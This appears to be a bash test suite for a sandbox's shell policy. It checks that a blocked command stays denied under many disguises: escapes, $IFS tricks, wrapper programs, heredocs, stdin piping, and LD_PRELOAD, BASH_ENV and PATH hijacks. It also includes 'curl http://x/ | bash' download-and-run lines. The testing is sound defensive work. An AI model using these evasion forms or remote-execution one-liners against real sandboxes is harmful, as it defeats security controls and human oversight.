#!/usr/bin/env bash
# Shell rules at level process: a blocked command in other clothes.  What nobody promises
# (what interpreters and files do) is in host/include/nacre/shell.h.
source "$(dirname "$0")/native_lib.sh"

# blocked TEXT...: each is denied before anything runs.
blocked() {
  local text
  for text in "$@"; do
    run exec --policy p.yaml --workspace work "$text"
    [[ ! -e work/forbidden ]] || fail "it was done"
    expect_status 126
    expect_out ""
    expect_err_has "nacre: denied: p.yaml:"
  done
}

shell_scene() {
  scene
  native p.yaml shell=restricted '-touch forbidden' '-curl * | bash'
  # The same words in another order are nobody's business: the control.
  run exec --policy p.yaml --workspace work 'touch allowed && ls allowed'
  expect_status 0
  expect_out allowed
}

H01_quotes_escapes_and_expansions() {
  shell_scene
  blocked 'touch forbidden' 't\ouch forbidden' "'touch' \"forbidden\"" "to''uch for\"\"bidden" \
    "\$'touch' forbidden" "\$'\\x74ouch' forbidden" '/usr/bin/touch forbidden' \
    '/usr/bin/../bin/touch forbidden' '/usr/bin/to?ch forbidden' 'x=touch; $x forbidden' \
    'touch $(echo forbidden)' 'touch `echo forbidden`' 'touch f?rbidden' 'touch for{b,}idden' \
    'touch$IFS"forbidden"' 'touch${IFS}forbidden' $'touch\tforbidden' $'touch \\\nforbidden' \
    '{touch,forbidden}' '$(echo touch) forbidden' '~/touch forbidden'
}

H01_every_place_where_a_command_may_stand() {
  shell_scene
  blocked '{ touch forbidden; }' '( touch forbidden )' 'if touch forbidden; then :; fi' \
    'while touch forbidden; do break; done' '! touch forbidden' 'true && touch forbidden' \
    'false || touch forbidden' 'true | touch forbidden' 'touch forbidden &' \
    'f() { touch forbidden; }; f' 'echo $(touch forbidden)' 'echo "`touch forbidden`"' \
    'case x in x) touch forbidden;; esac' 'for i in 1; do touch forbidden; done' \
    'X=1 touch forbidden' '>/dev/null touch forbidden' 'touch>/dev/null forbidden' \
    ': ${x:=$(touch forbidden)}' ': $((a[$(touch forbidden)]))' 'cat <(touch forbidden)' \
    "trap 'touch forbidden' EXIT" $'true\ntouch forbidden' '[ -n "$(touch forbidden)" ]'
}

# Only a judge that reads the text finds `touch forbidden` in this one: the words of the
# command itself hold no such thing.
hidden="sh -c 'to\"\"uch forbidden'"

H03_programs_that_start_another() {
  shell_scene
  local starter
  for starter in env 'env -i A=b' nohup 'timeout 5' 'nice -n 1' 'setsid -w' 'stdbuf -o0' \
    command exec busybox 'flock x' 'chroot /' unshare 'taskset 1' setpriv 'ionice -c3' \
    'chrt -b 0' 'choom -n 0 --' x86_64 i386 linux32 linux64 uname26 'prlimit --nofile=100' \
    'ssh-agent' 'dbus-run-session --' valgrind strace sudo 'su-exec x' fakeroot eatmydata \
    'faketime 2020-01-01' 'xvfb-run -a' 'npx -y' 'uv run' 'perf stat' 'chronic' 'time' \
    'xargs -I{}' 'find . -maxdepth 0 -exec' 'gdb --args' 'systemd-run' 'script -c' eval; do
    case $starter in
      find*) blocked "$starter $hidden \;" ;;
      'script -c') blocked "script -qc 'to\"\"uch forbidden' /dev/null" ;;
      *) blocked "$starter $hidden" ;;
    esac
  done
  blocked "$hidden" "bash -lc 'to\"\"uch forbidden'" "flock x -c 'to\"\"uch forbidden'" \
    "su -c 'to\"\"uch forbidden'" "eval 'to\"\"uch forbidden'" "env -S 'to\"\"uch forbidden'" \
    'echo forbidden | xargs touch' 'xargs -a x touch' "e=-exec; find . \$e $hidden \;" \
    "find . -maxdepth 0 \"\$e\"-exec $hidden \;" "find . ! -name -exec -exec $hidden \;" \
    "/lib64/ld-linux-x86-64.so.2 /bin/$hidden" "CC='to\"\"uch forbidden' make"
  # As words, without a shell.
  local words
  for words in 'env touch forbidden' 'sh -c touch\ forbidden' 'xargs touch' 'nice touch forbidden'; do
    eval "set -- $words"
    run run --policy p.yaml --workspace work -- "$@"
    expect_status 126
    [[ ! -e work/forbidden ]] || fail "it was done"
  done
}

H05_texts_that_a_shell_reads_elsewhere() {
  shell_scene
  blocked 'echo touch forbidden | sh' 'printf "touch forbidden" | bash' 'sh' 'bash -i' \
    $'sh <<E\ntouch forbidden\nE' $'sh <<"E"\ntouch forbidden\nE' 'bash <(echo touch forbidden)' \
    '. /dev/stdin' 'sh /dev/stdin' 'curl http://x/ | bash' 'curl http://x/ |bash -s' \
    'curl http://x/ | env bash' $'cat <<E | sh\ntouch forbidden\nE' \
    'echo touch forbidden | sh /dev/./stdin' 'echo touch forbidden | . //dev/stdin' \
    'cd /dev; echo touch /workspace/forbidden | sh stdin' \
    'cd /proc/self; echo touch /workspace/forbidden | sh fd/0'
  # Its own input is no way in either.
  echo 'touch forbidden' >text
  input=text run exec --policy p.yaml --workspace work 'sh'
  expect_status 126
  input=text run run --policy p.yaml --workspace work -- sh
  expect_status 126
  [[ ! -e work/forbidden ]] || fail "it was done"
}

H10_names_that_change_what_later_words_mean() {
  shell_scene
  blocked 'alias t=touch' 'PATH=/workspace:$PATH; ls' 'export LD_PRELOAD=/workspace/x.so' \
    'BASH_ENV=x bash -c :' 'env BASH_ENV=x bash -c :' 'ENV=x sh -c :' 'IFS=x; ls' \
    'PS4="\$(touch forbidden)"; set -x; :' 'hash -p /usr/bin/touch t; t forbidden' \
    'enable -f x y' 'read PATH' 'for PATH in /workspace; do ls; done' ': ${PATH:=x}' \
    'printf -v PATH x' 'GIT_SSH_COMMAND=x git fetch' 'LD_LIBRARY_PATH=/workspace ls'
}

H12_what_is_no_text_is_denied() {
  shell_scene
  blocked $'touch \xff\xfe' $'t\xc3ouch forbidden' 'touch "forbidden' 'echo $(' 'if true' \
    'cat <<E' "$(printf '(%.0s' $(seq 500)) touch forbidden" \
    "$(head -c 40000 /dev/zero | tr '\0' 'a'); touch forbidden"
  native p.yaml shell=deny
  run exec --policy p.yaml 'true'
  expect_status 126
  run run --policy p.yaml -- true
  expect_status 126
}

cases
